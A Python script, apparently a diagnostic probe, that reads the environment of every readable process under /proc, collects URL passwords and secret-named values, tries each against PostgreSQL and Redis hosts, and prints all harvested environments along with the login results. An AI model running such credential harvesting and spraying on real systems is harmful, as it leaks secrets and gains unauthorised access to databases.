"""Look for the server's credentials wherever a step can, then try each one found on the
database and the broker, whose addresses are all this step is given."""

import glob
import json
import os
import sys
from urllib.parse import urlsplit

targets = json.loads(sys.argv[1])
environments = {"os.environ": dict(os.environ)}
for path in ["/proc/self/environ", "/proc/1/environ", *sorted(glob.glob("/proc/[0-9]*/environ"))]:
    try:
        with open(path, "rb") as fh:
            raw = fh.read().decode(errors="replace")
    except OSError as exc:
        environments[path] = type(exc).__name__
        continue
    environments[path] = dict(item.split("=", 1) for item in raw.split("\0") if "=" in item)

# Every password in sight: that of each URL, and each value of a variable named like a secret.
candidates = {""}
for found in environments.values():
    if not isinstance(found, dict):
        continue
    for key, value in found.items():
        try:
            password = urlsplit(value).password
        except ValueError:
            password = None
        if password:
            candidates.add(password)
        if any(word in key.upper() for word in ("PASS", "AUTH", "SECRET", "KEY", "TOKEN")):
            candidates.add(value)

attempts = {}
if "postgres" in targets:
    import psycopg

    host, port = targets["postgres"]
    for user in ("studio", "postgres"):
        outcomes = set()
        for password in sorted(candidates):
            given = {"password": password} if password else {}  # else libpq looks for one
            try:
                with psycopg.connect(
                    host=host, port=port, user=user, dbname="postgres", connect_timeout=5, **given
                ):
                    outcomes.add("connected")
            except psycopg.Error as exc:
                outcomes.add(str(exc).strip())
        attempts[f"postgres as {user}"] = sorted(outcomes)
if "redis" in targets:
    import redis

    host, port = targets["redis"]
    outcomes = set()
    for password in sorted(candidates):
        try:
            redis.Redis(host=host, port=port, password=password or None, socket_timeout=5).ping()
            outcomes.add("connected")
        except redis.RedisError as exc:
            outcomes.add(f"{type(exc).__name__}: {exc}")
    attempts["redis"] = sorted(outcomes)

print("PROBE " + json.dumps({"environments": environments, "attempts": attempts}))
